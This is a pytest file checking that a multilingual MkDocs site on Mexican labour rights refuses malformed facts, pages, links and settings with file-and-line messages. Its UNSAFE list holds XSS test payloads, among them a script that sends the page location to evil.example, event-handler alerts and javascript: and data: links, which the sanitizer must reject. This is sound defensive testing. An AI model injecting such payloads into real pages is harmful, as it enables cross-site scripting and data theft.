"""Bad input: each kind is refused with a message naming the file (and
line), and the build stops without a traceback or a half-written site.

Input read before any page is rendered (facts, locales, the glossary,
settings and languages in mkdocs.yml) is checked by calling its loader on a
changed copy of the project; one case per loader also runs the whole build.
Problems in pages need the build, of the language whose page is bad; cases
whose problems the build reports together, each naming its own file and
line, share one."""

from pathlib import Path

import pytest
from mkdocs.config import load_config
from mkdocs.exceptions import Abort, PluginError
from mkdocs.utils.yaml import yaml_load

from build_tools.facts import load_facts
from build_tools.i18n.locales import load_catalogs
from build_tools.pipeline.settings import load_settings
from build_tools import front_matter, translations
from build_tools.translations import glossary
from project import AS_OF, PREFIXES, ROOT, SOURCE_LANG, copy_project, line_of, run_tools


def edit(path: Path, old: str, new: str, count: int = 1) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {path}"
    path.write_text(text.replace(old, new, count), encoding="utf-8")


def cut(path: Path, start: str, end: str) -> None:
    """Remove the text from the first ``start`` up to the next ``end``."""
    text = path.read_text(encoding="utf-8")
    first = text.index(start)
    path.write_text(text[:first] + text[text.index(end, first):], encoding="utf-8")


def append(path: Path, line: str) -> None:
    path.write_text(path.read_text(encoding="utf-8").rstrip("\n") + "\n\n" + line + "\n", encoding="utf-8")


def write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


GUIDE = "docs/es/hogar/aguinaldo.md"
TRANSLATION = "docs/en/hogar/aguinaldo.md"
DRAFT = "docs/nah/index.md"
PAGE = "---\ntitle: Prueba\nlast_reviewed: 2026-11-21\n---\n\n# Prueba\n\n"


def draft_text() -> str:
    """A whole-file draft translation into Nahuatl: a copy of the Spanish home page."""
    text = (ROOT / "docs/es/index.md").read_text(encoding="utf-8")
    return front_matter.set_block(text, "translation", {"status": "draft", "source": translations.fingerprint(text)})


def draft(project: Path) -> Path:
    path = project / DRAFT
    if not path.exists():
        write(path, draft_text())
    return path


def appended_line(page: str) -> int:
    """The line number append() gives the line it adds to a page."""
    text = draft_text() if page == DRAFT else (ROOT / page).read_text(encoding="utf-8")
    return text.rstrip("\n").count("\n") + 3


# Loaders: each reads its file the way the build does, and raises what the build reports.


def facts(project: Path) -> None:
    load_facts(project / "facts", project, SOURCE_LANG)


def locales(project: Path) -> None:
    load_catalogs(project / "locales", list(PREFIXES), SOURCE_LANG, project)


def glossary_file(project: Path) -> None:
    glossary.load(project, SOURCE_LANG)


def settings(project: Path) -> None:
    with open(project / "mkdocs.yml", encoding="utf-8") as config:
        raw = yaml_load(config)
    load_settings(raw["extra"]["derechos"], str(project / "mkdocs.yml"))


def mkdocs_config(project: Path) -> None:
    """MkDocs' own reading of mkdocs.yml, which validates the plugins' options."""
    load_config(str(project / "mkdocs.yml"))


# (id, loader, change to the project, text the message must contain)
LOADED = [
    ("facts-malformed-yaml", facts, lambda p: edit(p / "facts/plazos.yml", "  type: years", "  type: [years"),
     "facts/plazos.yml:4: this YAML cannot be read"),
    ("facts-tab-indentation", facts, lambda p: edit(p / "facts/plazos.yml", "  type: years", "\ttype: years"),
     "facts/plazos.yml:4: this YAML cannot be read"),
    ("locales-malformed-yaml", locales, lambda p: edit(p / "locales/en.yml", '  fact.source: "Source"', '  fact.source: "Source'),
     "locales/en.yml:"),
    ("locales-unknown-key", locales, lambda p: edit(p / "locales/en.yml", "  fact.source:", "  fact.sorce:"),
     "'site.fact.sorce' does not exist in es.yml"),
    ("locales-html", locales, lambda p: edit(p / "locales/en.yml", '"Source"', '"<b>Source</b>"'),
     "HTML is not allowed in UI strings"),
    ("fact-unknown-type", facts, lambda p: edit(p / "facts/plazos.yml", "  type: years", "  type: año"),
     "facts/plazos.yml:4: fact 'prescripcion.general': 'type' must be one of"),
    ("fact-value-wrong-type", facts, lambda p: edit(p / "facts/plazos.yml", "  value: 1\n", '  value: "uno"\n'),
     "facts/plazos.yml:25: fact 'prescripcion.general': the value of a years fact must be a number"),
    ("fact-no-source", facts, lambda p: edit(p / "facts/prestaciones.yml", "  sources:\n    - title: \"Ley", "  fuentes:\n    - title: \"Ley"),
     "fact 'aguinaldo.dias': unknown field 'fuentes'"),
    ("fact-no-legal-basis", facts, lambda p: cut(p / "facts/plazos.yml", "  legal_basis:\n", "  sources:\n"),
     "fact 'prescripcion.general': needs its legal basis"),
    ("fact-overlapping-dates", facts, lambda p: edit(p / "facts/salarios.yml", "      valid_until: 2025-12-31", "      valid_until: 2026-02-01"),
     "overlaps the value from 2026-01-01"),
    ("fact-defined-twice", facts, lambda p: write(p / "facts/zz-copia.yml", (p / "facts/plazos.yml").read_text(encoding="utf-8")),
     "facts/zz-copia.yml:3: fact 'prescripcion.general' is already defined in facts/plazos.yml:3"),
    ("fact-key-twice", facts, lambda p: edit(p / "facts/plazos.yml", "  confidence: high\n  value: 1\n", "  confidence: high\n  confidence: low\n  value: 1\n"),
     "facts/plazos.yml:25: this YAML cannot be read (the key 'confidence' appears twice)"),
    ("fact-bad-phone", facts, lambda p: edit(p / "facts/contactos.yml", '"800 717 2942"', '"800 717 294"'),
     "'800 717 294' is not a valid phone number"),
    ("fact-bad-date", facts, lambda p: edit(p / "facts/plazos.yml", "last_verified: 2026-11-29", "last_verified: ayer"),
     "'last_verified' must be a date"),
    ("not-utf8-facts", facts, lambda p: (p / "facts/zz-latin1.yml").write_bytes("x:\n  note: \"año\"\n".encode("latin-1")),
     "facts/zz-latin1.yml:2: this file is not valid UTF-8"),
    ("glossary-file-broken", glossary_file, lambda p: edit(p / "translations/glossary.yml", "    en: vacation premium\n", ""),
     f"translations/glossary.yml:{line_of(ROOT / 'translations/glossary.yml', '- es: prima vacacional')}: a term needs the words in 'es' and in 'en'"),
    ("settings-bad-as-of", settings, lambda p: edit(p / "mkdocs.yml", "as_of: !ENV [DC_AS_OF, null]", "as_of: mañana"),
     "mkdocs.yml: extra.derechos.as_of"),
    ("language-tag-invalid", mkdocs_config, lambda p: edit(p / "mkdocs.yml", "locale: mix", "locale: mixteco"),
     "'mixteco' is not a registered BCP 47 language tag"),
]
# One case per loader also runs the whole build
END_TO_END = ["facts-malformed-yaml", "locales-unknown-key", "glossary-file-broken", "settings-bad-as-of", "language-tag-invalid"]
LOADED_BY_ID = {case[0]: case for case in LOADED}

# Problems found while the pages are read and rendered: (id, the language
# whose page is bad, change, message)
CASES = [
    ("unknown-fact-translation", "nah", lambda p: append(draft(p), "It is {{ aguinaldo.dia }}."),
     "docs/nah/index.md:"),
    ("front-matter-invalid", "es", lambda p: edit(p / GUIDE, "title: El aguinaldo", "title: [El aguinaldo"),
     "docs/es/hogar/aguinaldo.md:2: the header (between the '---' lines) is not valid YAML"),
    ("front-matter-bad-status", "nah", lambda p: edit(draft(p), "status: draft", "status: lista"),
     "translation.status must be 'draft' or 'reviewed'"),
    ("front-matter-bad-review-date", "es", lambda p: edit(p / GUIDE, "last_reviewed: 2026-11-29", "last_reviewed: pronto"),
     "docs/es/hogar/aguinaldo.md: 'last_reviewed' must be a date"),
    ("not-utf8-page", "es", lambda p: (p / "docs/es/hogar/latin1.md").write_bytes(PAGE.encode() + "Año\n".encode("latin-1")),
     "docs/es/hogar/latin1.md:8: this file is not valid UTF-8"),
    ("parity-broken-reviewed-translation", "en", lambda p: edit(p / TRANSLATION, "{{ aguinaldo.dias }}", "15 days"),
     "docs/en/hogar/aguinaldo.md:"),
    ("typed-figure-spanish-guide", "es", lambda p: append(p / GUIDE, "Te pagan $346.54 al día."),
     f'{GUIDE}:{appended_line(GUIDE)}: "$346.54" is a money amount typed by hand; use a fact instead'),
    ("typed-figure-in-words", "es", lambda p: append(p / GUIDE, "Descansas un día y medio."),
     f'{GUIDE}:{appended_line(GUIDE)}: "un día y medio" is a number of days typed by hand'),
    ("search-words-not-a-list", "es", lambda p: edit(p / GUIDE, '  - "bono de navidad"\n  - "pago de diciembre"\n', ""),
     f"{GUIDE}:4: 'search_words' must be a list of words or phrases, one per line starting with '- '"),
    ("glossary-variant-english", "en", lambda p: append(p / TRANSLATION, "You also get the holiday bonus."),
     f'{TRANSLATION}:{appended_line(TRANSLATION)}: "holiday bonus" is not the site\'s English for "prima vacacional"; write "vacation premium"'),
    # MkDocs' own link rewriting would stop on it with a traceback
    ("link-address-malformed", "es", lambda p: append(p / GUIDE, "Ver [la PROFEDET](http://[www.gob.mx/profedet)."),
     f"{GUIDE}:{appended_line(GUIDE)}: the link 'http://[www.gob.mx/profedet' is not a web address that can be opened"),
]

# Lines added to one page whose problems the build reports together, each
# message naming its line: one build per group. (id, line added, message)
GROUPS = {
    # A page's fact references are checked together
    "fact-references": (GUIDE, [
        ("unknown-fact-spanish", "Son {{ aguinaldo.dia }}.", "unknown fact 'aguinaldo.dia'"),
        ("malformed-fact-reference", "Son {{ aguinaldo dias }}.", "is not a fact reference"),
        ("unknown-fact-option", "Son {{ aguinaldo.dias | despues }}.", "unknown option '| despues'"),
        ("table-fact-inline", "Mira {{ vacaciones.por_antiguedad }} aquí.", "must be alone on its own line"),
    ]),
    # A language's links are checked together once all its pages are rendered
    "links-spanish": (GUIDE, [
        ("link-missing-page-spanish", "[x](no-existe.md)",
         "(language: es) the link 'no-existe.md' points to a page that does not exist"),
        ("link-missing-anchor-spanish", "[x](salario.md#no-existe)",
         "(language: es) the link 'salario.md#no-existe' points to a section '#no-existe'"),
        ("audio-missing", '<audio controls src="audio/aguinaldo.mp3"></audio>',
         "the link 'audio/aguinaldo.mp3' points to a page that does not exist"),
    ]),
    "links-translation": (DRAFT, [
        ("link-missing-page-translation", "[x](hogar/no-existe.md)",
         "(language: nah) the link 'hogar/no-existe.md' points to a page that does not exist"),
        ("link-missing-anchor-translation", "[x](hogar/salario.md#no-existe)",
         "(language: nah) the link 'hogar/salario.md#no-existe'"),
    ]),
}
GROUPED = [(case, group, added, message) for group, (_, lines) in GROUPS.items() for case, added, message in lines]

# Bad pages added to the project, each in its own file: the page checks
# report them all at once, so one build checks them (with UNSAFE, below)
NEW_PAGES = [
    ("front-matter-unclosed", lambda p: write(p / "docs/es/hogar/nueva.md", "---\ntitle: Nueva\n\n# Nueva\n\nTexto.\n"),
     "docs/es/hogar/nueva.md:1: the header starts with '---' but has no closing '---' line"),
    ("language-folder-not-configured", lambda p: write(p / "docs/zap/index.md", PAGE + "Texto.\n"),
     "docs/zap: the folder 'zap' is not a language in mkdocs.yml"),
    ("page-outside-language-folder", lambda p: write(p / "docs/suelta.md", PAGE + "Texto.\n"),
     "docs/suelta.md: files go inside a language folder"),
    ("empty-page", lambda p: write(p / "docs/es/hogar/vacia.md", "---\ntitle: Vacía\n---\n\n"),
     "docs/es/hogar/vacia.md:4: the page is empty"),
    ("page-impossible-date", lambda p: write(p / "docs/es/hogar/fecha.md", PAGE.replace("2026-11-21", "2026-02-30") + "Texto.\n"),
     "docs/es/hogar/fecha.md:3: '2026-02-30' is not a real date: February 2026 has 28 days"),
    # Left behind when its Spanish page was removed: the build only builds Spanish here
    ("translation-without-a-source", lambda p: write(p / "docs/en/hogar/quitada.md", PAGE + "Text.\n"),
     "docs/en/hogar/quitada.md: esta traducción no tiene página en español (docs/es/hogar/quitada.md)"),
]

UNSAFE = [
    ("script", "<script>fetch('https://evil.example/?p=' + location)</script>", "<script>"),
    ("iframe", '<iframe src="https://evil.example"></iframe>', "<iframe>"),
    ("object", '<object data="x.swf"></object>', "<object>"),
    ("embed", '<embed src="x.swf">', "<embed>"),
    ("on-attribute", '<img src="../assets/x.png" onerror="alert(1)">', "attributes that start with 'on'"),
    ("on-attribute-multiline", '<a href="#cuanto"\n   onmouseover="alert(1)">x</a>', "attributes that start with 'on'"),
    ("javascript-link", "[pulsa](javascript:alert(1))", "may not use 'javascript:' addresses"),
    ("javascript-link-entities", "[pulsa](&#106;avascript:alert(1))", "may not use 'javascript:' addresses"),
    ("data-image", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "may not use 'data:' addresses"),
    ("data-html-link", '<a href="data:text/html,<script>alert(1)</script>">x</a>', "may not use 'data:' addresses"),
    ("style-element", "<style>.md-content { display: none }</style>", "<style>"),
    ("hiding-style-attribute", '<span style="display:none">texto oculto</span>', "a style that hides text"),
    ("on-attribute-attr-list", '[PROFEDET](https://www.gob.mx/profedet){ onclick="alert(1)" }', "attributes that start with 'on'"),
    ("image-from-another-website", "![El recibo](https://tracker.example/recibo.png)", "fetch a file from another website (tracker.example)"),
]


def run(project: Path, *args: str, lang: str | None = None):
    """`python -m build_tools build`; with ``lang``, of the language whose page is bad alone."""
    return run_tools(project, "build", "--as-of", AS_OF.isoformat(), *args, timeout=300, only_lang=lang)


def failure_output(project: Path, lang: str | None = None) -> str:
    """The output of a build that must stop cleanly: no traceback, no site/."""
    result = run(project, lang=lang)
    output = result.stdout + result.stderr
    assert result.returncode != 0, output[-2000:]
    assert "Traceback" not in output
    assert not (project / "site").exists()
    return output


def assert_fails_cleanly(project: Path, expected: str, lang: str | None = None):
    output = failure_output(project, lang)
    assert expected in output, output[-3000:]


def assert_said_at(output: str, where: str, expected: str):
    """The output has a line naming ``where`` (file and line) that says ``expected``."""
    said = [line for line in output.splitlines() if where in line]
    assert any(expected in line for line in said), output[-3000:]


def test_the_matrix_has_at_least_thirty_kinds():
    assert len(LOADED) + len(CASES) + len(GROUPED) + len(NEW_PAGES) + len(UNSAFE) >= 30


@pytest.mark.parametrize("load, change, expected", [c[1:] for c in LOADED], ids=[c[0] for c in LOADED])
def test_bad_input_is_refused_by_its_loader_with_file_and_line(project_copy, caplog, load, change, expected):
    change(project_copy)
    with pytest.raises((PluginError, Abort)) as refused:
        load(project_copy)
    # MkDocs logs what is wrong in mkdocs.yml, then aborts
    message = f"{refused.value}\n{caplog.text}"
    assert expected in message, message


@pytest.mark.build
@pytest.mark.parametrize("change, expected", [LOADED_BY_ID[case][2:] for case in END_TO_END], ids=END_TO_END)
def test_what_a_loader_refuses_stops_the_build(project_copy, change, expected):
    change(project_copy)
    assert_fails_cleanly(project_copy, expected)


@pytest.mark.build
@pytest.mark.parametrize("lang, change, expected", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_bad_input_fails_with_file_and_line(project_copy, lang, change, expected):
    change(project_copy)
    assert_fails_cleanly(project_copy, expected, lang)


@pytest.fixture(scope="module")
def group_build(tmp_path_factory):
    """The output of each group's build, built when first asked for."""
    outputs = {}

    def output(group: str) -> str:
        if group not in outputs:
            page, lines = GROUPS[group]
            project = copy_project(tmp_path_factory.mktemp(group) / "project")
            for _, added, _ in lines:
                append(draft(project) if page == DRAFT else project / page, added)
            outputs[group] = failure_output(project, lang=Path(page).parts[1])  # docs/<language>/...
        return outputs[group]

    return output


@pytest.mark.build
@pytest.mark.parametrize("case, group, message", [c[:2] + c[3:] for c in GROUPED], ids=[c[0] for c in GROUPED])
def test_grouped_bad_input_fails_with_file_and_line(group_build, case, group, message):
    page, lines = GROUPS[group]
    # append() leaves a blank line before each line it adds
    line = appended_line(page) + 2 * [c for c, _, _ in lines].index(case)
    assert_said_at(group_build(group), f"{page}:{line}: ", message)


@pytest.fixture(scope="module")
def new_pages_build(tmp_path_factory) -> tuple[dict[str, str], str]:
    """One build of a project with every NEW_PAGES change, and each unsafe
    snippet appended to its own copy of the guide: ({unsafe case id: the
    copy's path}, the build's output)."""
    project = copy_project(tmp_path_factory.mktemp("new-pages") / "project")
    for _, change, _ in NEW_PAGES:
        change(project)
    guide = project / GUIDE
    copies = {}
    for case, snippet, _ in UNSAFE:
        copies[case] = f"docs/es/hogar/inseguro-{case}.md"
        write(project / copies[case], guide.read_text(encoding="utf-8"))
        append(project / copies[case], snippet)
    return copies, failure_output(project, lang=SOURCE_LANG)


@pytest.mark.build
@pytest.mark.parametrize("expected", [c[2] for c in NEW_PAGES], ids=[c[0] for c in NEW_PAGES])
def test_bad_new_page_fails_with_file_and_line(new_pages_build, expected):
    _, output = new_pages_build
    assert expected in output, output[-3000:]


@pytest.mark.build
@pytest.mark.parametrize("case, expected", [(u[0], u[2]) for u in UNSAFE], ids=[u[0] for u in UNSAFE])
def test_unsafe_html_is_rejected_with_file_and_line(new_pages_build, case, expected):
    copies, output = new_pages_build
    assert_said_at(output, f"{copies[case]}:{appended_line(GUIDE)}: ", expected)


@pytest.mark.build
def test_an_event_handler_in_a_template_stops_the_build_at_its_line(project_copy):
    """The templates write every page: what they write is checked in the
    pages as built, and placed back in the template."""
    template = project_copy / "overrides/partials/page-tools.html"
    text = template.read_text(encoding="utf-8")
    template.write_text(text.replace('<button type="button"', '<button type="button" onclick="alert(1)"', 1), encoding="utf-8")
    line = line_of(template, '<button type="button" onclick=')
    output = failure_output(project_copy, lang=SOURCE_LANG)
    assert_said_at(output, f"overrides/partials/page-tools.html:{line}: ", "attributes that start with 'on'")
    assert "site/ was left as it was" in output


@pytest.mark.build
def test_debug_mode_shows_more(project_copy):
    append(project_copy / GUIDE, "{{ aguinaldo.dia }}")
    result = run(project_copy, "--debug", lang=SOURCE_LANG)
    assert result.returncode != 0
    assert "DEBUG" in result.stdout + result.stderr
